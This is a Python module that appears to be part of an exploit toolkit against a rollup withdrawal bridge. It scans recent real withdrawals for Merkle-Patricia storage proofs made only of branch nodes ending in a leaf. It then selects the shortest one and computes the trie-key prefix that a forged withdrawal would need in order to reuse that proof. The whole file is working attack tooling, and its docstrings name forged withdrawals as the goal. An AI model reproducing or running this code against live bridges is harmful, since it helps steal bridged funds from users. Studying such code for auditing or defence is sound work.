"""
Scan recent real withdrawals for a storage proof that can be reused by a
forged withdrawal.

A proof is reusable when it ends in a leaf and walks only branch nodes on the
way there: a forged key sharing the branch nibbles can then be swapped in
without touching any intermediate node. Extension nodes would need forging too,
which is not attempted.
"""

import logging
from typing import List, Optional, Sequence, Tuple

from hexbytes import HexBytes

from .custom_errors import NoReusableProofError, WithdrawalHashMismatchError
from .hashing import hash_withdrawal, verify_withdrawal_hash
from .keys import key_prefix, slot_for, trie_key_for
from .trie_nodes import classify_proof, describe_path
from .types import (
    NodeKind,
    ProofPath,
    Rejection,
    ScanCandidate,
    ScanResult,
    WithdrawalEvent,
    WithdrawalSource,
)

logger = logging.getLogger(__name__)

DEFAULT_LOOKBACK_BLOCKS = 1_000_000
DEFAULT_MAX_CANDIDATES = 100
DEFAULT_PREFIX_MARGIN = 1


def rejection_reason(path: ProofPath) -> Optional[str]:
    """
    Return why a proof path can't be reused, or `None` if it can.
    """
    kinds = path.kinds

    if not kinds:
        return "empty proof"

    if NodeKind.UNKNOWN in kinds:
        return f"unknown node at depth {kinds.index(NodeKind.UNKNOWN)}"

    if NodeKind.EXTENSION in kinds:
        return f"extension node at depth {kinds.index(NodeKind.EXTENSION)}"

    if kinds[-1] != NodeKind.LEAF or kinds.count(NodeKind.LEAF) != 1:
        return f"path does not end in a single leaf ({', '.join(kinds)})"

    return None


def reusable_candidates(
    candidates: Sequence[ScanCandidate],
) -> Tuple[List[ScanCandidate], List[Rejection]]:
    accepted: List[ScanCandidate] = []
    rejected: List[Rejection] = []

    for candidate in candidates:
        reason = rejection_reason(candidate.path)

        if reason is None:
            accepted.append(candidate)
            continue

        rejected.append(
            Rejection(
                withdrawal_hash=candidate.event.withdrawal_hash,
                block_number=candidate.event.block_number,
                reason=reason,
                transaction_hash=candidate.event.transaction_hash,
            )
        )

    return accepted, rejected


def select_shortest(candidates: Sequence[ScanCandidate]) -> ScanCandidate:
    """
    Pick the reusable candidate with the fewest proof nodes.

    Shorter paths mean fewer branch nibbles the forged key has to share. Ties
    go to the earliest candidate.
    """
    accepted, rejected = reusable_candidates(candidates)

    if not accepted:
        raise NoReusableProofError(
            f"None of the {len(candidates)} scanned withdrawals has a "
            "leaf-terminated proof without extension nodes",
            rejections=rejected,
        )

    return min(accepted, key=lambda candidate: len(candidate.path))


def required_prefix(trie_key: bytes, node_count: int, margin: int) -> str:
    return key_prefix(trie_key, node_count + margin)


def _origin(block_number: int, transaction_hash: Optional[HexBytes]) -> str:
    if transaction_hash is None:
        return f"L2 block {block_number}"

    return f"L2 block {block_number}, tx {HexBytes(transaction_hash).to_0x_hex()}"


def verify_event_hash(event: WithdrawalEvent) -> None:
    if not verify_withdrawal_hash(event):
        raise WithdrawalHashMismatchError(
            f"Recomputed withdrawal hash {hash_withdrawal(event.message).to_0x_hex()} "
            f"!= emitted withdrawalHash {HexBytes(event.withdrawal_hash).to_0x_hex()} "
            f"(event in {_origin(event.block_number, event.transaction_hash)})"
        )


class WithdrawalScanner:
    """
    Finds the real withdrawal whose `sentMessages` proof is the cheapest to
    reuse for a forged withdrawal.

    Parameters
    ----------
    source : WithdrawalSource
        Remote reader used for events and storage proofs.

    lookback_blocks : int
        Number of L2 blocks before the latest one to search for `MessagePassed`.

    max_candidates : int
        Only the first `max_candidates` events get a proof fetched.

    prefix_margin : int
        Extra hex nibbles, on top of the node count, the forged trie key must share.
    """

    def __init__(
        self,
        source: WithdrawalSource,
        lookback_blocks: int = DEFAULT_LOOKBACK_BLOCKS,
        max_candidates: int = DEFAULT_MAX_CANDIDATES,
        prefix_margin: int = DEFAULT_PREFIX_MARGIN,
    ):
        self.source = source
        self.lookback_blocks = lookback_blocks
        self.max_candidates = max_candidates
        self.prefix_margin = prefix_margin

    def fetch_events(self) -> List[WithdrawalEvent]:
        to_block = self.source.latest_block_number()
        from_block = max(0, to_block - self.lookback_blocks)

        events = self.source.get_withdrawal_events(from_block, to_block)

        logger.info(
            "Found %d withdrawals between L2 blocks %d and %d",
            len(events),
            from_block,
            to_block,
        )

        return events[: self.max_candidates]

    def inspect(self, event: WithdrawalEvent, proof_block: int) -> ScanCandidate:
        """
        Fetch and classify the `sentMessages` proof of a single withdrawal.
        """
        storage_slot = slot_for(event.withdrawal_hash)
        storage_proof = self.source.get_storage_proof(storage_slot, proof_block)
        path = classify_proof(trie_key_for(storage_slot), storage_proof.nodes)

        logger.debug(
            "withdrawalHash %s -> %s",
            HexBytes(event.withdrawal_hash).to_0x_hex(),
            describe_path(path),
        )

        return ScanCandidate(event=event, path=path, storage_proof=storage_proof)

    def scan(self, proof_block: int) -> ScanResult:
        """
        Select the shortest reusable real proof at `proof_block`.

        Parameters
        ----------
        proof_block : int
            L2 block number the storage proofs are taken against, i.e. the
            block committed by the output the forged withdrawal will be
            proven against.

        Returns
        -------
        ScanResult
        """
        events = self.fetch_events()

        logger.info(
            "Searching through %d recent real withdrawals for real proofs to leverage",
            len(events),
        )

        candidates = [self.inspect(event, proof_block) for event in events]
        accepted, rejected = reusable_candidates(candidates)

        for rejection in rejected:
            logger.info(
                "Skipping withdrawalHash %s (%s): %s",
                HexBytes(rejection.withdrawal_hash).to_0x_hex(),
                _origin(rejection.block_number, rejection.transaction_hash),
                rejection.reason,
            )

        selected = select_shortest(candidates)
        verify_event_hash(selected.event)

        trie_key = selected.path.trie_key
        prefix = required_prefix(trie_key, len(selected.path), self.prefix_margin)

        logger.info(
            "Found a good real withdrawal hash that has a short trie prefix before a leaf"
        )
        logger.info(
            "Real withdrawalHash: %s",
            HexBytes(selected.event.withdrawal_hash).to_0x_hex(),
        )
        logger.info("Real trie key: 0x%s", trie_key.hex())
        logger.info("Prefix of trie key before leaf: %s", prefix)
        logger.info("Exact trie path: %s", describe_path(selected.path))

        return ScanResult(
            candidate=selected,
            trie_key=trie_key,
            required_prefix=prefix,
            scanned=len(candidates),
            rejections=tuple(rejected),
        )
